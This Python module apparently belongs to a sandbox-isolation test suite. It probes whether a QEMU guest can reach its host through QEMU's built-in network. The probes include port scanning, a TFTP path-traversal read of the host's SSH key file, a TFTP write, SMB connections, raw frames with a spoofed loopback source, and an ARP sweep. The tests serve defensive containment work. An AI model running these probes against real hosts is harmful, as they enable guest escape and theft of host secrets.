"""Attacks through a guest's network card: QEMU's own addresses and services, and packets made by hand.

QEMU answers for a small network (10.0.2.0/24, fec0::/64) and carries what a guest sends elsewhere, as the process that
it is. So each of these ends where QEMU may go. For the control the same is sent from outside to where it would lead.
"""

from __future__ import annotations

import contextlib
import re
import select
import socket
import struct
import time
from pathlib import Path

from exeat.attack.model import Absent, Evidence, Group, Run, Scene, Stopped, need
from exeat.attack.moves import (
    WAIT_S,
    dns_query,
    say_in_every_language,
    say_tcp,
    say_udp,
)
from exeat.attack.probes.raw import checksum, echo, ip_packet, udp_packet

IN_GUESTS = frozenset({"vm"})
GROUP = Group("guest", "a guest's network card: QEMU's addresses and services", IN_GUESTS, only="vm")
HOST, NAMES, SHARES = "10.0.2.2", "10.0.2.3", "10.0.2.4"  # QEMU's: the machine, its resolver, a file server
HOST6, NAMES6 = "fec0::2", "fec0::3"
_OWN = "10.0.2.15"
_OWN6 = "fec0::15"
_QEMU_CARDS = (b"\x52\x54", b"\x52\x55", b"\x52\x56")  # how the addresses of its cards begin
_ETH_P_ALL, _ETH_P_ARP, _ETH_P_IP, _ETH_P_IPV6 = 0x0003, 0x0806, 0x0800, 0x86DD
_TFTP_DATA = 3
_ICMP6 = 58
_AT_ONCE = 64
_PORTS = (*range(1, 1101), *range(60_900, 61_200))  # well-known ones, and where exeat's gateway listens


def _card() -> str:
    """The guest's network card."""
    for _, name in socket.if_nameindex():
        if name != "lo":
            return name
    raise Absent("no network card")


# QEMU's addresses, which lead to the machine's loopback and to its resolver


def _by_tcp(address: str, key: str) -> Run:
    def say(scene: Scene) -> str:
        place = need(scene.tcp, key)
        return say_tcp(scene, place if scene.outside else (address, place[1]))

    return say


def _by_udp(address: str, key: str) -> Run:
    def say(scene: Scene) -> str:
        place = need(scene.udp, key)
        return say_udp(scene, place if scene.outside else (address, place[1]))

    return say


for _name, _address, _key, _title in (
    ("host", HOST, "v4", "the machine's loopback"),
    ("host-admin", HOST, "admin", "an administration port of the machine"),
    ("names", NAMES, "v4", "its resolver, another port"),
    ("host6", HOST6, "v6", "the machine's loopback"),
    ("names6", NAMES6, "v6", "its resolver, another port"),
):
    GROUP.probe(f"G1.{_name}-tcp", f"TCP to {_address}: {_title}")(_by_tcp(_address, _key))
    GROUP.probe(f"G1.{_name}-udp", f"UDP to {_address}: {_title}")(_by_udp(_address, _key))


@GROUP.probe("G1.every-port", "every port that something outside listens on, at QEMU's address")
def every_port(scene: Scene) -> str:
    said = []
    for host, port in scene.tcp.values():
        place = (host, port) if scene.outside else (HOST6 if ":" in host else HOST, port)
        with contextlib.suppress(OSError):
            said.append(say_tcp(scene, place))
    for host, port in scene.udp.values():
        place = (host, port) if scene.outside else (HOST6 if ":" in host else HOST, port)
        with contextlib.suppress(OSError):
            said.append(say_udp(scene, place))
    if not said:
        raise Stopped("none of them can be sent to")
    return f"sent to {len(said)} of {len(scene.tcp) + len(scene.udp)}"


@GROUP.probe("G1.listeners", "whatever listens at QEMU's address, asked in every language for a forbidden place")
def listeners(scene: Scene) -> str:
    """The proxy is there, and must refuse; nothing else may lead anywhere."""
    places = [scene.proxy] if scene.proxy else [(HOST, port) for port in _open_ports(HOST)]
    said = say_in_every_language(scene, places)
    return f"{[port for _, port in places]}: {said}"


def _open_ports(host: str) -> list[int]:
    """Those of the ports that take a connection."""
    found: list[int] = []
    for at in range(0, len(_PORTS), _AT_ONCE):
        waiting = {}
        for port in _PORTS[at : at + _AT_ONCE]:
            sock = socket.socket()
            sock.setblocking(False)
            sock.connect_ex((host, port))
            waiting[sock] = port
        end = time.monotonic() + WAIT_S
        while waiting and (left := end - time.monotonic()) > 0:
            for sock in select.select([], list(waiting), [], left)[1]:
                if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    found.append(waiting[sock])
                del waiting[sock]
                sock.close()
        for sock in waiting:
            sock.close()
    return found


# Services that QEMU has in itself


def _ask_tftp(name: str) -> bytes:
    """Read a file by TFTP (RFC 1350), its first block."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(WAIT_S)
        sock.sendto(struct.pack("!H", 1) + name.encode() + b"\0octet\0", (HOST, 69))
        answer = sock.recv(65536)
    if struct.unpack("!H", answer[:2])[0] != _TFTP_DATA:
        raise Stopped(f"TFTP answers {answer[:60]!r}")
    return answer[4:]


@GROUP.probe("G2.tftp", "a file of the machine by QEMU's TFTP server", evidence=Evidence.SECRET)
def tftp(scene: Scene) -> str:
    path = scene.files["key ssh"]
    ways = [path, path.lstrip("/"), "../" * 16 + path.lstrip("/"), f"./{path}"]
    for way in ways:
        with contextlib.suppress(OSError, Stopped):
            data = Path(path).read_bytes() if scene.outside else _ask_tftp(way)
            if found := re.search(rb"filekey-[0-9a-f]{24}", data):
                return found.group().decode()
    raise Stopped("none of the ways leads to it")


@GROUP.probe("G2.tftp-write", "a file of the machine written by QEMU's TFTP server")
def tftp_write(scene: Scene) -> str:
    path = Path(scene.home, f"tftp-{scene.token}")
    if scene.outside:
        path.write_text(scene.token)
        return "written"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(WAIT_S)
        sock.sendto(struct.pack("!H", 2) + str(path).encode() + b"\0octet\0", (HOST, 69))
        answer, place = sock.recvfrom(65536)
        sock.sendto(struct.pack("!HH", _TFTP_DATA, 1) + scene.token.encode(), place)
    return f"answer {answer[:60]!r}"


@GROUP.probe("G2.smb", "the file server of QEMU's network (SMB)")
def smb(scene: Scene) -> str:
    said = []
    for place in [scene.tcp["v4"]] if scene.outside else [(SHARES, 139), (SHARES, 445), (HOST, 445)]:
        with contextlib.suppress(OSError):
            said.append(say_tcp(scene, place))
    if not said:
        raise Stopped("nothing takes a connection")
    return "; ".join(said)


# Packets by hand, which the guest's own kernel has no say in


def _send_frame(kind: int, packet: bytes, card: str) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(kind)) as sock:
        sock.sendto(packet, (card, kind, 0, 0, b"\x52\x55\x0a\x00\x02\x02"))


def _frame(key: str) -> Run:
    def send(scene: Scene) -> str:
        place = need(scene.udp, key)
        if scene.outside:
            return say_udp(scene, place, options=((socket.SOL_SOCKET, socket.SO_BROADCAST, 1),))
        _send_frame(_ETH_P_IP, udp_packet(scene, _OWN, place), _card())
        _send_frame(_ETH_P_IP, udp_packet(scene, "127.0.0.1", place), _card())  # as if from the machine itself
        return "sent"

    return send


GROUP.probe("G5.frame-loopback", "a UDP packet by hand to the machine's loopback")(_frame("v4"))
GROUP.probe("G5.frame-own", "a UDP packet by hand to the machine's own address")(_frame("own4"))
GROUP.probe("G5.frame-resolver", "a UDP packet by hand to another resolver")(_frame("dns"))
GROUP.probe("G5.frame-broadcast", "a UDP packet by hand to all on loopback")(_frame("broadcast"))


@GROUP.probe("W2.frame", "a packet by hand leaves the card, and is answered", evidence=Evidence.WORKS)
def frame_works(scene: Scene) -> str:
    """Or the probes with such packets prove nothing."""
    query = dns_query(scene.allowed[0], 1)
    udp = struct.pack("!HHHH", 4001, 53, 8 + len(query), 0) + query
    ping = struct.pack("!BBHHH", 128, 0, 0, 7, 1)
    waiting = {"IPv4": lambda packet: packet[9] == 17 and packet[20:24] == struct.pack("!HH", 53, 4001)}
    waiting["IPv6"] = lambda packet: packet[6] == _ICMP6 and packet[40] == 129
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_ETH_P_ALL)) as sock:
        _send_frame(_ETH_P_IP, ip_packet(_OWN, NAMES, 17, udp), _card())
        _send_frame(_ETH_P_IPV6, _ip6_packet(HOST6, _ICMP6, ping, 2), _card())
        end = time.monotonic() + WAIT_S
        while waiting and (left := end - time.monotonic()) > 0 and select.select([sock], [], [], left)[0]:
            packet = sock.recv(65536)
            version = f"IPv{packet[0] >> 4}"
            if version in waiting and len(packet) > 44 and waiting[version](packet):
                del waiting[version]
    if waiting:
        raise Stopped(f"no answer by {list(waiting)}")
    return "answered"


@GROUP.probe("G5.frame-multicast", "a UDP packet by hand to a multicast group")
def frame_multicast(scene: Scene) -> str:
    place = need(scene.udp, "multicast4")
    if scene.outside:
        by_loopback = (socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
        return say_udp(scene, place, options=(by_loopback,))
    _send_frame(_ETH_P_IP, udp_packet(scene, _OWN, place), _card())
    return "sent"


@GROUP.probe("G5.frame6", "a UDP packet by hand to ::1")
def frame6(scene: Scene) -> str:
    place = need(scene.udp, "v6")
    if scene.outside:
        return say_udp(scene, place)
    data = scene.token.encode()
    udp = struct.pack("!HHHH", 4000, place[1], 8 + len(data), 0) + data
    _send_frame(_ETH_P_IPV6, _ip6_packet(place[0], 17, udp, 6), _card())
    return "sent"


def _ip6_packet(target: str, protocol: int, body: bytes, at: int) -> bytes:
    """A whole IPv6 packet whose body has its checksum at a place."""
    ends = socket.inet_pton(socket.AF_INET6, _OWN6) + socket.inet_pton(socket.AF_INET6, target)
    total = checksum(ends + struct.pack("!IHBB", len(body), 0, 0, protocol) + body + b"\0" * (len(body) % 2))
    head = struct.pack("!IHBB", 6 << 28, len(body), protocol, 64) + ends
    return head + body[:at] + struct.pack("!H", total) + body[at + 2 :]


@GROUP.probe("G5.icmp", "ICMP echo by hand to the machine's loopback")
def icmp(scene: Scene) -> str:
    if not scene.icmp:
        raise Absent("this user cannot listen for ICMP")
    if scene.outside:
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
            sock.sendto(echo(scene), ("127.0.0.1", 0))
    else:
        for target in ("127.0.0.1", HOST):
            _send_frame(_ETH_P_IP, ip_packet(_OWN, target, socket.IPPROTO_ICMP, echo(scene)), _card())
    return "sent"


@GROUP.probe("G5.neighbours", "another machine on the wire (ARP)", evidence=Evidence.DEED, scratch=True)
def neighbours(scene: Scene) -> str:
    """Ask for addresses of a common home network. Every answer but QEMU's comes from a real wire.

    Outside, the loopback interface plays the wire: what is sent is heard.
    """
    card = "lo" if scene.outside else _card()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL)) as sock:
        sock.bind((card, 0))
        own = sock.getsockname()[4]
        for target in ("10.0.2.77", "192.168.1.1", "192.168.0.1", "10.0.0.1", "172.17.0.1"):
            body = own + socket.inet_aton(_OWN) + bytes(6) + socket.inet_aton(target)
            sock.send(b"\xff" * 6 + own + struct.pack("!HHHBBH", _ETH_P_ARP, 1, 0x0800, 6, 4, 1) + body)
        end = time.monotonic() + 1
        while (left := end - time.monotonic()) > 0 and select.select([sock], [], [], left)[0]:
            frame = sock.recv(65536)
            if scene.outside or (frame[6:12] != own and not frame[6:12].startswith(_QEMU_CARDS)):
                return f"heard {frame[6:12].hex(':')}"
    raise Stopped("only QEMU answers")
